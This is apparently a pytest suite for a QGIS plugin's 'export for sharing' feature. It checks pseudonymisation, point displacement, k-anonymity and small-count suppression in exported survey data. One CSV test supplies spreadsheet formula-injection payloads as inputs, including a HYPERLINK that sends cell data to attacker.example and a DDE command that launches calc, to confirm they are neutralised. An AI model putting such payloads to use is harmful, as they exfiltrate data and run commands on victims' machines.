# SPDX-License-Identifier: GPL-3.0-or-later
"""Export for sharing: every protection is checked on the file written, and nothing else is written."""

from __future__ import annotations

import csv
import hashlib
import json
import re
import shutil
from pathlib import Path

import numpy as np
import pytest
from osgeo import ogr

from cartong_plugin.core.base.errors import CartongError
from cartong_plugin.core.protection.pseudonymise import key_fingerprint, pseudonymise_value
from cartong_plugin.core.protection.share_export import export_for_sharing
from cartong_plugin.core.protection.share_options import ShareOptions
from tests.protection_data import aeqd_distance_m, read_gpkg_rows, write_sample_survey_gpkg

KEY_A = bytes(range(32))
KEY_B = bytes(range(100, 132))
SAMPLE_ADMIN = Path(__file__).resolve().parent.parent / "resources" / "sample" / "admin_boundaries.gpkg"


@pytest.fixture(scope="module")
def source_gpkg(tmp_path_factory):
    return write_sample_survey_gpkg(tmp_path_factory.mktemp("source") / "survey.gpkg")


@pytest.fixture(scope="module")
def source_rows(source_gpkg):
    return {row["_index"]: row for row in read_gpkg_rows(source_gpkg, "survey")[1]}


@pytest.fixture()
def survey(qgis_app, source_gpkg, tmp_path):
    """The survey layer, from a copy whose checksum the test can compare afterwards."""
    from qgis.core import QgsProject, QgsVectorLayer

    copy = tmp_path / "input" / "survey.gpkg"
    copy.parent.mkdir()
    shutil.copy(source_gpkg, copy)
    layer = QgsVectorLayer(f"{copy}|layername=survey", "survey", "ogr")
    assert layer.isValid()
    project = QgsProject.instance()
    project.addMapLayer(layer, False)  # owned by C++ and deleted at teardown, not after QGIS exits
    yield layer
    project.removeMapLayer(layer.id())


@pytest.fixture()
def out_dir(tmp_path):
    folder = tmp_path / "shared"
    folder.mkdir()
    return folder


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _files(root: Path) -> list[str]:
    return sorted(p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file())


def _metadata(gpkg: Path) -> list[dict]:
    return read_gpkg_rows(gpkg, "cartong_protection")[1]


# ---------------------------------------------------------------- displacement and columns


@pytest.fixture()
def displaced(survey, out_dir):
    # photo_url (high risk) kept on purpose: its links are stripped
    options = ShareOptions(
        drop_columns=["respondent_name"],
        pseudonymise_columns=["phone"],
        key=KEY_A,
        location_mode="displace",
        min_distance_m=250,
        max_distance_m=2000,
        keep_columns=["photo_url"],
    )
    return export_for_sharing(survey, out_dir / "shared.gpkg", options)


def test_displaced_points_are_within_the_radius_and_never_at_their_place(displaced, source_rows):
    _, rows = read_gpkg_rows(displaced.output, "shared_survey")
    assert len(rows) == len(source_rows) == 420
    checked = 0
    for row in rows:
        original = source_rows[row["_index"]]
        if "_x" not in original:
            assert "_x" not in row  # no location stays no location
            continue
        distance = aeqd_distance_m(original["_x"], original["_y"], row["_x"], row["_y"])
        assert 250 - 0.5 <= distance <= 2000 + 0.5
        checked += 1
    assert checked > 400


def test_location_columns_are_dropped_with_displaced_points(displaced, source_rows):
    names, rows = read_gpkg_rows(displaced.output, "shared_survey")
    assert "_location_latitude" not in names and "_location_longitude" not in names
    true_coordinates = {round(r[c], 6) for r in source_rows.values() for c in ("_x", "_y") if c in r}
    published = {round(v, 6) for r in rows for k, v in r.items() if isinstance(v, float) and k not in ("_x", "_y")}
    assert true_coordinates.isdisjoint(published)


def test_dropped_column_and_its_values_are_gone(displaced, source_rows):
    names, _ = read_gpkg_rows(displaced.output, "shared_survey")
    assert "respondent_name" not in names
    content = displaced.output.read_bytes()
    other_text = {str(r[c]) for r in source_rows.values() for c in ("enumerator", "village") if r[c]}
    names_only = {r["respondent_name"] for r in source_rows.values() if r["respondent_name"]} - other_text
    assert len(names_only) > 100
    assert [n for n in names_only if n.encode() in content] == []


def test_pseudonymised_phones_match_the_keyed_hash_and_hide_the_numbers(displaced, source_rows):
    _, rows = read_gpkg_rows(displaced.output, "shared_survey")
    content = displaced.output.read_bytes()
    phones = 0
    for row in rows:
        original = source_rows[row["_index"]]["phone"]
        assert row["phone"] == pseudonymise_value(original, KEY_A)
        if original:
            phones += 1
            assert original.encode() not in content
            assert re.fullmatch(r"[0-9a-f]{16}", row["phone"])
    assert phones > 300


def test_pseudonyms_are_stable_with_one_key_and_change_with_another(survey, out_dir, displaced):
    again = export_for_sharing(
        survey, out_dir / "again.gpkg", ShareOptions(pseudonymise_columns=["phone"], key=KEY_A, location_mode="drop")
    )
    other = export_for_sharing(
        survey, out_dir / "other.gpkg", ShareOptions(pseudonymise_columns=["phone"], key=KEY_B, location_mode="drop")
    )

    def phones(report):
        return {r["_index"]: r["phone"] for r in read_gpkg_rows(report.output, "shared_survey")[1] if r["phone"]}

    first, second, third = phones(displaced), phones(again), phones(other)
    assert first == second
    assert first.keys() == third.keys() and all(first[u] != third[u] for u in first)


def test_attachment_links_are_stripped(displaced, source_rows):
    _, rows = read_gpkg_rows(displaced.output, "shared_survey")
    assert all(source_rows[r["_index"]]["photo_url"].startswith("https://") for r in rows)
    assert all(r["photo_url"] is None for r in rows)
    assert b"kobotoolbox.org/media" not in displaced.output.read_bytes()


def test_what_was_done_is_recorded_in_the_metadata_table(displaced):
    steps = {row["action"]: row for row in _metadata(displaced.output)}
    assert list(steps) == [
        "drop_columns",
        "keep_high_risk_columns",
        "drop_location_columns",
        "pseudonymise",
        "pseudonymise_by_default",  # enumerator: staff names, as the wizard starts them
        "strip_links",
        "displace",
    ]
    assert steps["keep_high_risk_columns"]["columns"] == "photo_url"
    assert steps["drop_columns"]["columns"] == "respondent_name"
    assert steps["drop_location_columns"]["columns"] == "_location_latitude, _location_longitude"
    assert json.loads(steps["displace"]["parameters"]) == {
        "min_distance_m": 250.0,
        "max_distance_m": 2000.0,
        "same_offset_in_every_copy_by": "_uuid",
    }
    assert json.loads(steps["pseudonymise"]["parameters"])["key_fingerprint"] == key_fingerprint(KEY_A)
    assert steps["strip_links"]["rows_affected"] == 420
    assert all(row["source_layer"] == "survey" for row in steps.values())


def test_readme_describes_the_protection_in_english_and_french(displaced):
    assert displaced.readme == displaced.output.with_name("shared.gpkg.README.txt")
    text = displaced.readme.read_text(encoding="utf-8")
    assert "Columns removed: respondent_name." in text
    assert "Colonnes supprimées : respondent_name." in text
    assert "Points moved in a random direction by 250 to 2000 m" in text
    assert "Points déplacés dans une direction aléatoire de 250 à 2000 m" in text
    assert f"key {key_fingerprint(KEY_A)} kept by the data owner" in text
    assert "The same record is in the table cartong_protection of the GeoPackage." in text


def test_the_key_is_written_nowhere(displaced, out_dir):
    for path in out_dir.rglob("*"):
        content = path.read_bytes()
        assert KEY_A.hex().encode() not in content and KEY_A not in content, path


def test_only_the_output_and_its_readme_are_written_and_the_input_is_untouched(survey, tmp_path, source_gpkg):
    source = Path(survey.source().split("|")[0])
    before_sha, before_files = _sha(source), _files(tmp_path)
    report = export_for_sharing(
        survey, tmp_path / "shared" / "partners.gpkg", ShareOptions(drop_columns=["respondent_name"])
    )
    assert _files(tmp_path) == sorted(before_files + ["shared/partners.gpkg", "shared/partners.gpkg.README.txt"])
    assert _sha(source) == before_sha == _sha(source_gpkg)
    assert report.rows == 420


def test_odd_output_name_is_sanitised_inside_the_folder(survey, out_dir):
    report = export_for_sharing(survey, out_dir / "CON: rapport?.gpkg", ShareOptions(location_mode="drop"))
    assert report.output == out_dir.resolve() / "CON_ rapport_.gpkg"
    assert _files(out_dir) == ["CON_ rapport_.gpkg", "CON_ rapport_.gpkg.README.txt"]


def test_keep_mode_warns_in_the_readme_and_keeps_coordinates(survey, out_dir, source_rows):
    report = export_for_sharing(survey, out_dir / "exact.gpkg", ShareOptions(location_mode="keep"))
    names, rows = read_gpkg_rows(report.output, "shared_survey")
    assert "_location_latitude" in names
    assert all(abs(r["_x"] - source_rows[r["_index"]]["_x"]) < 1e-9 for r in rows if "_x" in r)
    assert "WARNING: exact locations are kept" in report.readme.read_text(encoding="utf-8")


# ---------------------------------------------------------------- snapping and CSV


def test_snapped_csv_has_grid_points_and_no_formula_cells(qgis_app, out_dir):
    from qgis.core import QgsFeature, QgsGeometry, QgsPointXY, QgsVectorLayer

    layer = QgsVectorLayer("Point?crs=EPSG:4326&field=note:string&field=hh_size:integer", "hostile", "memory")
    notes = [
        '=HYPERLINK("http://attacker.example/?x="&A2,"x")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "\t=1+1",
        "ok",
    ]
    features = []
    for i, note in enumerate(notes):
        feature = QgsFeature(layer.fields())
        feature.setAttributes([note, i + 1])
        feature.setGeometry(QgsGeometry.fromPointXY(QgsPointXY(18.555 + i * 0.0004, 4.3612)))
        features.append(feature)
    layer.dataProvider().addFeatures(features)
    report = export_for_sharing(
        layer, out_dir / "points.csv", ShareOptions(location_mode="snap", grid_size_m=1000, strip_links=False)
    )
    with open(report.output, newline="", encoding="utf-8-sig") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["note"] for r in rows] == ["'" + n for n in notes[:5]] + ["ok"]
    assert len({(r["longitude"], r["latitude"]) for r in rows}) <= 2  # 6 points 45 m apart: one or two cells
    for i, row in enumerate(rows):
        assert aeqd_distance_m(18.555 + i * 0.0004, 4.3612, float(row["longitude"]), float(row["latitude"])) <= 708


# ---------------------------------------------------------------- aggregation


@pytest.fixture()
def aggregated(survey, out_dir):
    from qgis.core import QgsVectorLayer

    boundaries = QgsVectorLayer(f"{SAMPLE_ADMIN}|layername=admin2", "admin2", "ogr")
    assert boundaries.isValid()
    options = ShareOptions(
        location_mode="aggregate",
        area_field="admin2",
        category_field="water_source",
        k=5,
        boundaries=boundaries,
        boundaries_code_field="adm2_pcode",
    )
    report = export_for_sharing(survey, out_dir / "counts.gpkg", options)
    del options, boundaries
    return report


def _true_counts(source_rows):
    counts = {}
    for row in source_rows.values():
        key = (row["admin2"], row["water_source"] or "")
        counts[key] = counts.get(key, 0) + 1
    return counts


def test_aggregated_counts_hide_every_small_count(aggregated, source_rows):
    names, rows = read_gpkg_rows(aggregated.output, "shared_counts")
    categories = [n for n in names if n.startswith("n_")]
    truth = _true_counts(source_rows)
    shown = hidden = 0
    for row in rows:
        for name in categories:
            code = "" if name == "n_no_answer" else name[2:]
            true = truth.get((row["area_code"], code), 0)
            if row[name] is None:
                hidden += 1
            else:
                shown += 1
                assert row[name] == true and (true == 0 or true >= 5)
        assert row["total"] is None or row["total"] == 0 or row["total"] >= 5
    assert hidden > 0 and shown > 0
    assert len(rows) == 72 and all(r["_geom_type"] == "MULTIPOLYGON" for r in rows)


def test_no_hidden_count_can_be_worked_out_from_the_file(aggregated, source_rows):
    """Unknowns = empty cells; equations = row totals, plus the column totals an attacker may know."""
    names, rows = read_gpkg_rows(aggregated.output, "shared_counts")
    categories = [n for n in names if n.startswith("n_")]
    unknown = [(r["area_code"], c) for r in rows for c in categories if r[c] is None]
    unknown += [(r["area_code"], "total") for r in rows if r["total"] is None]
    index = {u: i for i, u in enumerate(unknown)}
    equations = []
    for r in rows:  # row: sum of cells - total = 0
        eq = np.zeros(len(unknown))
        for c in categories:
            if r[c] is None:
                eq[index[(r["area_code"], c)]] += 1
        if r["total"] is None:
            eq[index[(r["area_code"], "total")]] -= 1
        if eq.any():
            equations.append(eq)
    for c in categories:  # column totals from the true data
        eq = np.zeros(len(unknown))
        for r in rows:
            if r[c] is None:
                eq[index[(r["area_code"], c)]] += 1
        if eq.any():
            equations.append(eq)
    matrix = np.array(equations)
    rank = np.linalg.matrix_rank(matrix)
    for u, i in index.items():
        unit = np.zeros(len(unknown))
        unit[i] = 1
        assert np.linalg.matrix_rank(np.vstack([matrix, unit])) > rank, u


def test_aggregation_is_recorded_and_explained(aggregated):
    step = _metadata(aggregated.output)[0]
    assert step["action"] == "aggregate" and step["columns"] == "admin2, water_source"
    parameters = json.loads(step["parameters"])
    assert parameters["k"] == 5 and parameters["hidden_small_counts"] > 0
    text = aggregated.readme.read_text(encoding="utf-8")
    assert "counts from 1 to 4 are hidden (empty)" in text and "les effectifs de 1 à 4 sont masqués" in text


def test_aggregated_csv_has_no_geometry_and_empty_hidden_cells(survey, out_dir):
    report = export_for_sharing(
        survey, out_dir / "counts.csv", ShareOptions(location_mode="aggregate", area_field="village", k=5)
    )
    with open(report.output, newline="", encoding="utf-8-sig") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0]) == ["area_code", "total"]
    totals = [r["total"] for r in rows]
    assert all(t == "" or int(t) >= 5 for t in totals)
    assert totals.count("") >= 2  # villages with few households, and at least one more
    readme = report.readme.read_text(encoding="utf-8")
    assert "cartong_protection" not in readme and "Counts of submissions by village" in readme


# ---------------------------------------------------------------- refusals


@pytest.mark.parametrize(
    "options, message",
    [
        (ShareOptions(drop_columns=["nom_inconnu"]), "The column nom_inconnu is not in the layer survey"),
        (ShareOptions(pseudonymise_columns=["phone"]), "No pseudonymisation key"),
        (ShareOptions(location_mode="blur"), 'Unknown location protection "blur"'),
        (ShareOptions(min_distance_m=0), "minimum distance above 0"),
        (ShareOptions(location_mode="aggregate", area_field="adm9"), "admin area column adm9 is not in the layer"),
    ],
)
def test_bad_options_are_refused_before_writing(survey, out_dir, options, message):
    with pytest.raises(CartongError, match=re.escape(message)):
        export_for_sharing(survey, out_dir / "x.gpkg", options)
    assert _files(out_dir) == []


def test_unsupported_format_is_refused(survey, out_dir):
    with pytest.raises(CartongError, match="not x.shp"):
        export_for_sharing(survey, out_dir / "x.shp")


def test_cancel_leaves_nothing(survey, out_dir):
    from qgis.core import QgsProcessingFeedback

    feedback = QgsProcessingFeedback()
    feedback.cancel()
    with pytest.raises(CartongError, match="cancelled"):
        export_for_sharing(survey, out_dir / "x.gpkg", ShareOptions(), feedback)
    assert _files(out_dir) == []


def test_metadata_table_is_a_plain_attribute_table(displaced):
    ds = ogr.Open(str(displaced.output))
    assert ds.GetLayerByName("cartong_protection").GetGeomType() == ogr.wkbNone


# ---------------------------------------------------------------- k-anonymity of records

QUASI = ["admin2", "village", "head_gender", "hh_size"]


def test_rare_combinations_are_blanked_until_each_is_shared_by_k_rows(survey, out_dir, source_rows):
    from collections import Counter

    before = Counter(tuple(r[c] for c in QUASI) for r in source_rows.values())
    assert sum(n for n in before.values() if n < 5) > 100  # the sample has many unique households
    report = export_for_sharing(
        survey, out_dir / "k.gpkg", ShareOptions(location_mode="drop", quasi_identifiers=QUASI, k=5)
    )
    _, rows = read_gpkg_rows(report.output, "shared_survey")
    after = Counter(tuple(r[c] for c in QUASI) for r in rows)
    assert all(n >= 5 or all(v is None for v in combo) for combo, n in after.items())
    for row in rows:  # values are blanked, never changed
        original = source_rows[row["_index"]]
        assert all(row[c] is None or row[c] == original[c] for c in QUASI)
    step = next(r for r in _metadata(report.output) if r["action"] == "suppress_rare_combinations")
    assert step["columns"] == ", ".join(QUASI) and json.loads(step["parameters"])["k"] == 5
    assert "so that each combination is shared by at least 5 rows" in report.readme.read_text(encoding="utf-8")


def test_displaced_points_can_be_kept_in_their_admin_area(survey, out_dir, source_rows):
    from qgis.core import QgsVectorLayer

    admin_ds = ogr.Open(str(SAMPLE_ADMIN))  # keep the dataset alive while its layer is read
    polygons = {f.GetField("adm2_pcode"): f.GetGeometryRef().Clone() for f in admin_ds.GetLayerByName("admin2")}
    admin_ds = None
    boundaries = QgsVectorLayer(f"{SAMPLE_ADMIN}|layername=admin2", "admin2", "ogr")
    report = export_for_sharing(
        survey,
        out_dir / "kept.gpkg",
        ShareOptions(location_mode="displace", min_distance_m=1000, max_distance_m=5000, boundaries=boundaries),
    )
    del boundaries
    _, rows = read_gpkg_rows(report.output, "shared_survey")

    def area_of(x, y):
        point = ogr.CreateGeometryFromWkt(f"POINT ({x} {y})")
        return next((code for code, polygon in polygons.items() if polygon.Contains(point)), None)

    kept = checked = 0
    for row in rows:
        original = source_rows[row["_index"]]
        if "_x" not in original or area_of(original["_x"], original["_y"]) is None:
            continue
        checked += 1
        assert 1000 - 0.5 <= aeqd_distance_m(original["_x"], original["_y"], row["_x"], row["_y"]) <= 5000 + 0.5
        kept += area_of(row["_x"], row["_y"]) == area_of(original["_x"], original["_y"])
    steps = {r["action"]: r for r in _metadata(report.output)}
    assert checked > 350 and kept == checked - steps["keep_in_admin_area"]["rows_affected"]
    assert steps["keep_in_admin_area"]["rows_affected"] <= 2
    assert "Each point stays in its admin area (admin2)" in report.readme.read_text(encoding="utf-8")


def test_displacing_a_polygon_layer_is_refused(qgis_app, out_dir):
    from qgis.core import QgsVectorLayer

    layer = QgsVectorLayer("Polygon?crs=EPSG:4326&field=name:string", "parcels", "memory")
    with pytest.raises(CartongError, match="The layer parcels does not hold single points"):
        export_for_sharing(layer, out_dir / "x.gpkg", ShareOptions(location_mode="displace"))
    assert _files(out_dir) == []


def test_answer_codes_with_the_same_field_name_get_distinct_columns(qgis_app, out_dir):
    from qgis.core import QgsFeature, QgsVectorLayer

    layer = QgsVectorLayer("None?field=admin2:string&field=q:string", "answers", "memory")
    features = []
    for area in ("CF111", "CF112"):
        for code in ("a-b", "a_b"):
            for _ in range(3):
                feature = QgsFeature(layer.fields())
                feature.setAttributes([area, code])
                features.append(feature)
    layer.dataProvider().addFeatures(features)
    report = export_for_sharing(
        layer,
        out_dir / "answers.csv",
        ShareOptions(location_mode="aggregate", area_field="admin2", category_field="q", k=2),
    )
    lines = report.output.read_text(encoding="utf-8-sig").splitlines()
    assert lines == ["area_code,total,n_a_b,n_a_b_2", "CF111,6,3,3", "CF112,6,3,3"]
